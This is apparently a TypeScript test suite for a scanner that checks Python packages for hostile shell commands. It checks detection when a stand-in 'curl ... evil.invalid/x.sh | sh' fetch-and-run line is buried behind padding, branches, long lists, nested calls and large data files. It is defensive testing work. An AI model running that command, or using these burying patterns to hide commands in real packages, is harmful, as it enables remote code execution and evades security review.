import { judgeSources } from '../../src/analysis/judge-sources.js';
import { found } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

const HOSTILE = 'curl -s https://evil.invalid/x.sh | sh';
const HARMLESS = 'ls -l /tmp';

const many = (count: number, line: (at: number) => string, between = '\n'): string =>
  Array.from({ length: count }, (_, at) => line(at)).join(between);
const listed = (count: number, text: string): string =>
  `[${many(count, (at) => `"ls ${at}"`, ', ')}, "${text}"]`;

/** Programs in which much stands in front of what counts, behind what counts, or around it. */
const PADDED: readonly (readonly [string, (text: string) => string])[] = [
  [
    'one of many branches',
    (text) => `
import os, sys
n = len(sys.argv)
if n == 0:
    line = "ls 0"
${many(30, (at) => `elif n == ${at + 1}:\n    line = "ls ${at}"`)}
else:
    line = "${text}"
os.system(line)`,
  ],
  [
    'one among many that look as if they did something',
    (text) =>
      `import os, random\nos.system(random.choice([${many(40, (at) => `"echo subprocess ${at}"`, ', ')}, "${text}"]))`,
  ],
  [
    'a long text in one of two branches',
    (text) => `
import os, sys
line = "ls -l"
if sys.flags.quiet:
    line = "${'true; '.repeat(500)}${text}"
os.system(line)`,
  ],
  [
    'one of many choices',
    (text) =>
      `import os, sys\nn = len(sys.argv)\nos.system(${many(30, (at) => `"ls ${at}" if n == ${at} else (`, '')}"${text}"${')'.repeat(30)})`,
  ],
  [
    'one of many lists',
    (text) => `
import subprocess, sys
n = len(sys.argv)
if n == 0:
    words = ["ls"]
${many(30, (at) => `elif n == ${at + 1}:\n    words = ["ls", "${at}"]`)}
else:
    words = ["sh", "-c", "${text}"]
subprocess.run(words)`,
  ],
  ['a long list', (text) => `import os\nfor line in ${listed(100, text)}:\n    os.system(line)`],
  [
    'a long list behind its index',
    (text) =>
      `import os\nlines = ${listed(100, text)}\nfor at in range(len(lines)):\n    os.system(lines[at])`,
  ],
  [
    'pairs in a long list',
    (text) =>
      `import os\nfor name, line in [${many(100, (at) => `("${at}", "ls ${at}")`, ', ')}, ("z", "${text}")]:\n    os.system(line)`,
  ],
  [
    'tables in a long list',
    (text) =>
      `import os\nfor one in [${many(100, (at) => `{"c": "ls ${at}"}`, ', ')}, {"c": "${text}"}]:\n    os.system(one["c"])`,
  ],
  ['a long comprehension', (text) => `import os\n[os.system(line) for line in ${listed(300, text)}]`],
  [
    'a long generator',
    (text) => `
import os
def lines():
${many(100, (at) => `    yield "ls ${at}"`)}
    yield "${text}"
for line in lines():
    os.system(line)`,
  ],
  [
    'many functions in a list',
    (text) => `
import os
${many(100, (at) => `def f${at}(): return ${at}`)}
def last(): os.system("${text}")
for each in [${many(100, (at) => `f${at}`, ', ')}, last]:
    each()`,
  ],
  [
    'many functions in a table',
    (text) => `
import os, platform
${many(150, (at) => `def f${at}(): return ${at}`)}
def last(): os.system("${text}")
{${many(150, (at) => `"${at}": f${at}`, ', ')}, "Linux": last}[platform.system()]()`,
  ],
  [
    'a choice among many functions',
    (text) => `
import os, random
${many(60, (at) => `def f${at}(): return ${at}`)}
def last(): os.system("${text}")
random.choice([${many(60, (at) => `f${at}`, ', ')}, last])()`,
  ],
  [
    'a large table',
    (text) =>
      `import os, platform\nos.system({${many(150, (at) => `"${at}": "ls ${at}"`, ', ')}, "Linux": "${text}"}[platform.system()])`,
  ],
  [
    'a list that is emptied',
    (text) => `import os\nlines = ${listed(90, text)}\nwhile lines:\n    os.system(lines.pop(0))`,
  ],
  [
    'a list that is emptied from its end, while it has a length',
    (text) =>
      `import os\nlines = [${many(90, (at) => `"ls ${at}"`, ', ')}]\nlines.insert(0, "${text}")\nwhile len(lines) > 0:\n    line = lines.pop()\n    os.system(line)`,
  ],
  [
    'a list that is emptied until a break',
    (text) =>
      `import os\nlines = ${listed(90, text)}\nwhile True:\n    if not lines:\n        break\n    os.system(lines.pop(0))`,
  ],
  [
    'a list that is counted through',
    (text) =>
      `import os\nlines = ${listed(90, text)}\nat = 0\nwhile at < len(lines):\n    os.system(lines[at])\n    at += 1`,
  ],
  [
    'calls in calls',
    (text) => `
import os
${many(80, (at) => `def f${at}(line): return f${at + 1}(line)`)}
def f80(line): os.system(line)
f0("${text}")`,
  ],
  [
    'lambdas in lambdas',
    (text) =>
      `import os\nrun = lambda: os.system("${text}")\n${'run = (lambda inner: lambda: inner())(run)\n'.repeat(60)}run()`,
  ],
  [
    'a function that calls itself with it',
    (text) => `
import os
def run(line, isLast):
    if isLast:
        os.system(line)
    else:
        run("${text}", True)
run("ls", False)`,
  ],
  ['a long command', (text) => `import os\nos.system("${'true; '.repeat(3000)}${text}")`],
  ['a long command that is put together', (text) => `import os\nos.system("true;" * 10000 + "${text}")`],
  [
    'a large file that is written and run',
    (text) =>
      `import os\nopen("/tmp/a.sh", "w").write("# line\\n" * 60000 + "${text}")\nos.system("sh /tmp/a.sh")`,
  ],
  [
    'the second of two commands that begin, end and are as long as each other',
    (text) =>
      `import os\ndef run(line): os.system(line)\nrun("${'true; '.repeat(100)}${text.replace(/./g, '#')}; ${'true; '.repeat(100)}")\nrun("${'true; '.repeat(100)}${text}; ${'true; '.repeat(100)}")`,
  ],
  [
    'the second of two lists that begin and end alike',
    (text) =>
      `import subprocess\ndef run(words): subprocess.run(words)\nfor word in ["ls", "${text}"]:\n    run(["sh", "-c", ${'"true;", '.repeat(20)}word, ${'"true;", '.repeat(20)}])`,
  ],
  [
    'a loop without rounds',
    (text) => `import os\nline = "${text}"\nfor line in os.environ.get("X", ""):\n    pass\nos.system(line)`,
  ],
  [
    'a text that a branch replaces by what is not known',
    (text) =>
      `import os, sys\nline = "${text}"\nif sys.flags.quiet:\n    line = os.getcwd()\nos.system(line)`,
  ],
  [
    'a long list behind its index, in a branch',
    (text) =>
      `import os, sys\nlines = ${listed(100, text)}\nif not sys.flags.quiet:\n    for at in range(len(lines)):\n        os.system(lines[at])`,
  ],
  [
    'what a table gives that lacks a key',
    (text) =>
      `import os, platform\nos.system({"Windows": "ver /a", "Darwin": "ls -l"}.get(platform.system(), "${text}"))`,
  ],
  [
    'a table that is asked for a key',
    (text) =>
      `import os, platform\nos.system({"Windows": "ver /a", "Linux": "${text}"}.get(platform.system()))`,
  ],
];

test.each(PADDED)('%s', (_, program) => {
  expect(found(program(HOSTILE))['hostile-command']).toBe('CRITICAL');
  expect(found(program(HARMLESS))['hostile-command']).toBeUndefined();
});

const PLACE = 'os.path.join(os.path.dirname(__file__), "data")';

/** Files of a package with much in front of what counts. */
const FILES: readonly (readonly [string, string, (text: string) => string])[] = [
  [
    'lines of a text',
    `for line in open(${PLACE}):\n    os.system(line)`,
    (text) => `${many(300, (at) => `ls ${at}`)}\n${text}\n`,
  ],
  [
    'rows of a table',
    `import csv\nfor row in csv.reader(open(${PLACE})):\n    os.system(row[1])`,
    (text) => `${many(300, (at) => `a,ls ${at}`)}\n"b, ""c""","${text}"\n`,
  ],
  [
    'named rows of a table',
    `import csv\nfor row in csv.DictReader(open(${PLACE})):\n    os.system(row["line"])`,
    (text) => `name,line\n${many(300, (at) => `a,ls ${at}`)}\nb,${text}\n`,
  ],
  [
    'JSON',
    `import json\nos.system(json.load(open(${PLACE}))["line"])`,
    (text) => JSON.stringify({ filling: 'x'.repeat(1_200_000), line: text }),
  ],
  [
    'settings',
    `import configparser\nhere = configparser.ConfigParser()\nhere.read(${PLACE})\nos.system(here["run"]["line"])`,
    (text) => `[a]\n${many(20_000, (at) => `k${at} = v`)}\n[run]\nline = ${text}\n`,
  ],
  [
    'one long line of a script',
    `import subprocess\nsubprocess.run(["sh", ${PLACE}])`,
    (text) => `${'true;'.repeat(40_000)}${text}\n`,
  ],
];

const judged = (program: string, data: string): ReturnType<typeof judgeSources> =>
  judgeSources(
    sourceTree({ 'x/__init__.py': `import os\n${program}\n`, 'x/data': data }, { kind: 'wheel', folder: '' }),
    python,
  );

test.each(FILES)('%s', (_, program, file) => {
  const rules = ({ findings }: ReturnType<typeof judgeSources>): string[] =>
    findings.map(({ severity, rule }) => `${severity} ${rule}`);
  expect(rules(judged(program, file(HOSTILE)))).toContain('CRITICAL hostile-command');
  expect(rules(judged(program, file(HARMLESS)))).not.toContain('CRITICAL hostile-command');
});

test('what is too long or too deep to be followed is unscanned', () => {
  const deep = `import os\n${many(300, (at) => `def f${at}(line): f${at + 1}(line)`)}\ndef f300(line): os.system(line)\nf0("${HOSTILE}")`;
  const long = `os.system("${'true; '.repeat(30_000)}${HOSTILE}")`;
  const large = `import json\nos.system(json.load(open(${PLACE}))["line"])`;
  for (const [program, data] of [
    [deep, ''],
    [long, ''],
    [`for line in open(${PLACE}):\n    os.system(line)`, `${'x\n'.repeat(1_200_000)}${HOSTILE}`],
    [large, JSON.stringify({ filling: 'x'.repeat(3_000_000), line: HOSTILE })],
  ] as const)
    expect(judged(program, data).unscanned.map(({ code }) => code)).toEqual(['too-complex']);
});
